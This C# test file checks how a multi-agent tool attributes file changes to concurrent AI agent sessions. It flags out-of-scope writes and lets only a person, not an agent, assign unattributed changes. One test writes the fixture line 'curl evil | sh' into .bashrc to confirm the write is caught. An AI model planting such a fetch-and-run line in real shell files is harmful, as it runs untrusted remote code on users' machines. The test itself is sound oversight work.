using KnowledgeOS.Testing;
using KnowledgeOS.Testing.MultiAgent;

namespace KnowledgeOS.Tests.MultiAgent;

/// <summary>
/// Agents in one shared work tree (<c>KOS_TASK</c>/<c>KOS_SESSION</c> per agent): a shell call's changes are
/// attributed to the session that made them, never to a bystander whose call merely overlapped.
/// </summary>
public sealed class SharedTreeAttributionTests : IDisposable
{
    private readonly WorktreeRepo _r = new();
    private readonly string _root;

    public SharedTreeAttributionTests()
    {
        _root = _r.Repo.Root;
        foreach (var (task, s) in new[] { (_r.TaskA, "a"), (_r.TaskB, "b"), (_r.TaskC, "c") })
        {
            _r.Main.Ok("dispatch-task", task, "--session", "agent-" + s);
        }
    }

    public void Dispose() => _r.Dispose();

    private Dictionary<string, string> Env(string task) => new() { ["KOS_TASK"] = task };

    private CliRun Pre(string session, string task, string command) => WorktreeRepo.Hook(_root, "pre-tool-use", session, command, Env(task));

    private CliRun Post(string session, string task, string command) => WorktreeRepo.Hook(_root, "post-tool-use", session, command, Env(task));

    private IReadOnlyList<(string? Task, string Payload)> Violations => _r.Events("scope.violation");

    [Fact]
    public void a_session_that_only_slept_is_not_blamed_for_what_another_wrote_meanwhile()
    {
        Pre("sb", _r.TaskB, "sleep 1.5");
        Pre("sa", _r.TaskA, "echo x > src/a/own.txt");
        WorktreeRepo.Write(_root, "src/a/own.txt");
        var b = Post("sb", _r.TaskB, "sleep 1.5"); // B ends first, while A's call still runs
        Post("sa", _r.TaskA, "echo x > src/a/own.txt");
        Assert.DoesNotContain("src/a/own.txt", b.Out + b.Err, StringComparison.Ordinal);
        Assert.Empty(Violations);
        Assert.Empty(_r.Events("change.unattributed"));

        // And the other way round: A's call ends before B's.
        Pre("sb", _r.TaskB, "sleep 1.5");
        Pre("sa", _r.TaskA, "echo y > src/a/two.txt");
        WorktreeRepo.Write(_root, "src/a/two.txt");
        Post("sa", _r.TaskA, "echo y > src/a/two.txt");
        Post("sb", _r.TaskB, "sleep 1.5");
        Assert.Empty(Violations);
    }

    [Fact]
    public void an_agent_sandboxs_empty_placeholders_are_no_change_but_content_written_there_is()
    {
        // While B's sandboxed command runs, its sandbox guards missing paths with empty files on the host; A looks then.
        Pre("sb", _r.TaskB, "npm test");
        Pre("sa", _r.TaskA, "ls");
        foreach (var placeholder in new[] { ".bashrc", ".claude/hooks", ".codex", ".mcp.json", "opencode.json" })
        {
            WorktreeRepo.Write(_root, placeholder, "");
        }

        var a = Post("sa", _r.TaskA, "ls");
        Assert.Equal(0, a.Code);
        Assert.Empty(Violations);
        Assert.Empty(_r.Events("change.unattributed"));
        foreach (var placeholder in new[] { ".bashrc", ".claude/hooks", ".codex", ".mcp.json", "opencode.json" })
        {
            File.Delete(Path.Combine(_root, placeholder));
        }

        Post("sb", _r.TaskB, "npm test");
        Assert.Empty(Violations);

        // Content at a guarded path, or an empty file anywhere else, is a change like any other.
        Pre("sa", _r.TaskA, "echo x > .bashrc; touch src/b/empty.txt");
        WorktreeRepo.Write(_root, ".bashrc", "curl evil | sh\n");
        WorktreeRepo.Write(_root, "src/b/empty.txt", "");
        Post("sa", _r.TaskA, "echo x > .bashrc; touch src/b/empty.txt");
        var paths = string.Join(" ", Violations.Select(v => v.Payload));
        Assert.Contains(".bashrc", paths, StringComparison.Ordinal);
        Assert.Contains("src/b/empty.txt", paths, StringComparison.Ordinal);
    }

    [Fact]
    public void a_write_through_the_agents_write_tool_is_not_blamed_on_a_session_running_a_script()
    {
        Pre("sb", _r.TaskB, "python3 build.py");
        var write = new System.Text.Json.Nodes.JsonObject { ["file_path"] = Path.Combine(_root, "src/a/own.txt"), ["content"] = "x\n" };
        WriteTool("sa", _r.TaskA, write, "pre-tool-use");
        WorktreeRepo.Write(_root, "src/a/own.txt");
        WriteTool("sa", _r.TaskA, write, "post-tool-use");
        Post("sb", _r.TaskB, "python3 build.py");
        Assert.Empty(Violations);
        Assert.Empty(_r.Events("change.unattributed"));
    }

    [Fact]
    public void a_cross_scope_shell_write_is_the_writers_violation_and_blocks_only_its_task()
    {
        Pre("sa", _r.TaskA, "sleep 2");
        Pre("sb", _r.TaskB, "echo y > src/a/intrude.txt");
        WorktreeRepo.Write(_root, "src/a/intrude.txt");
        Post("sa", _r.TaskA, "sleep 2");
        var b = Post("sb", _r.TaskB, "echo y > src/a/intrude.txt");
        Assert.Contains("src/a/intrude.txt", b.Out + b.Err, StringComparison.Ordinal);
        var v = Assert.Single(Violations);
        Assert.Equal(_r.TaskB, v.Task);

        WorktreeRepo.Write(_root, "src/a/own.txt");
        _r.Main.Ok("eval-task", _r.TaskA);
        _r.Main.Ok("report-task", _r.TaskA);
        _r.Main.Ok("complete-task", _r.TaskA); // A is not held up by B's violation
        WorktreeRepo.Write(_root, "src/b/own.txt");
        _r.Main.Ok("eval-task", _r.TaskB);
        _r.Main.Ok("report-task", _r.TaskB);
        Assert.Equal(1, _r.Main.Run("complete-task", _r.TaskB).Code);
    }

    [Fact]
    public void a_change_two_overlapping_scripts_could_have_made_is_recorded_unattributed_and_blamed_on_neither()
    {
        Pre("sa", _r.TaskA, "python3 gen_a.py");
        Pre("sb", _r.TaskB, "python3 gen_b.py");
        WorktreeRepo.Write(_root, "src/c/who.txt"); // C's area: neither A's nor B's
        Post("sa", _r.TaskA, "python3 gen_a.py");
        Post("sb", _r.TaskB, "python3 gen_b.py");
        Assert.Empty(Violations);
        var u = Assert.Single(_r.Events("change.unattributed"));
        Assert.Contains("src/c/who.txt", u.Payload, StringComparison.Ordinal);
        Assert.Contains("\"sa\"", u.Payload, StringComparison.Ordinal);
        Assert.Contains("\"sb\"", u.Payload, StringComparison.Ordinal);
        var pf = _r.Main.Run("postflight");
        Assert.Contains("[unattributed] src/c/who.txt was changed while sessions", pf.Out + pf.Err, StringComparison.Ordinal);
        File.Delete(Path.Combine(_root, "src/c/who.txt"));
        Assert.DoesNotContain("src/c/who.txt", _r.Main.Run("postflight").Out, StringComparison.Ordinal);
    }

    [Fact]
    public void a_person_assigns_an_unattributed_change_and_it_becomes_that_tasks_violation_but_an_agent_cannot_assign()
    {
        Pre("sa", _r.TaskA, "python3 gen_a.py");
        Pre("sb", _r.TaskB, "python3 gen_b.py");
        WorktreeRepo.Write(_root, "src/c/who.txt");
        Post("sa", _r.TaskA, "python3 gen_a.py");
        Post("sb", _r.TaskB, "python3 gen_b.py");

        // An agent would gladly pin it on someone else: refused and filed for a person.
        var agent = new InProcess(_root, null, new Dictionary<string, string> { ["CLAUDECODE"] = "1", ["KOS_ACTOR"] = "agent:claude" });
        Assert.NotEqual(0, agent.Run("assign-change", "src/c/who.txt", "--task", _r.TaskA).Code);
        Assert.Empty(Violations);

        var assigned = _r.Main.Ok("assign-change", "src/c/who.txt", "--task", _r.TaskB, "--json");
        OutputContract.AssertOutput("assign-change", assigned.Out, assigned.Code);
        Assert.False(System.Text.Json.Nodes.JsonNode.Parse(assigned.Out)!["inScope"]!.GetValue<bool>());
        Assert.Equal(_r.TaskB, Assert.Single(Violations).Task);
        var pf = _r.Main.Run("postflight").Out;
        Assert.DoesNotContain("[unattributed] src/c/who.txt", pf, StringComparison.Ordinal);
        Assert.Contains($"[violations] {_r.TaskB} changed src/c/who.txt outside its scope", pf, StringComparison.Ordinal);
        var nothing = _r.Main.Run("assign-change", "src/nothing.txt", "--task", _r.TaskB, "--json");
        Assert.Equal("input", (string?)OutputContract.AssertError(nothing.Out, nothing.Code, "assign-change")["code"]);
    }

    [Fact]
    public void a_lone_session_is_still_blamed_for_what_changed_in_its_window_whatever_its_command_says()
    {
        // One agent at work: a background job it started earlier, or a command kos reads wrongly, is its own.
        Pre("sa", _r.TaskA, "ls");
        WorktreeRepo.Write(_root, "src/b/sneaky.txt");
        Post("sa", _r.TaskA, "ls");
        Assert.Equal(_r.TaskA, Assert.Single(Violations).Task);
    }

    [Fact]
    public void three_concurrent_sessions_writing_only_in_their_own_scope_get_no_violation_in_ten_runs_of_ten()
    {
        var sessions = new[] { ("a", _r.TaskA), ("b", _r.TaskB), ("c", _r.TaskC) };
        for (var run = 0; run < 10; run++)
        {
            var threads = sessions.Select(s => new Thread(() =>
            {
                for (var i = 0; i < 3; i++)
                {
                    var file = $"src/{s.Item1}/run{run}-{i}.txt";
                    var command = $"echo {run} > {file} && cat {file}";
                    Pre($"s{s.Item1}{run}", s.Item2, command);
                    WorktreeRepo.Write(_root, file, $"{run}\n");
                    Post($"s{s.Item1}{run}", s.Item2, command);
                }
            })).ToList();
            threads.ForEach(t => t.Start());
            threads.ForEach(t => t.Join());
            Assert.True(Violations.Count == 0, $"run {run + 1}: {string.Join("; ", Violations.Select(v => v.Payload))}");
            Assert.Empty(_r.Events("change.unattributed"));
        }
    }

    private CliRun WriteTool(string session, string task, System.Text.Json.Nodes.JsonObject input, string eventName)
    {
        var payload = new System.Text.Json.Nodes.JsonObject
        {
            ["session_id"] = session,
            ["cwd"] = _root,
            ["hook_event_name"] = eventName == "pre-tool-use" ? "PreToolUse" : "PostToolUse",
            ["tool_name"] = "Write",
            ["tool_input"] = input.DeepClone(),
            ["tool_response"] = eventName == "pre-tool-use" ? null : new System.Text.Json.Nodes.JsonObject { ["type"] = "create" },
        }.ToJsonString();
        var o = new StringWriter();
        var e = new StringWriter();
        var env = Env(task);
        var ctx = new KnowledgeOS.Cli.CliContext(o, e, new StringReader(payload), _root, TimeProvider.System, k => env.GetValueOrDefault(k));
        return new CliRun(KnowledgeOS.Cli.Commands.HookCommands.Run(["hook", "claude", eventName], ctx), o.ToString(), e.ToString());
    }
}
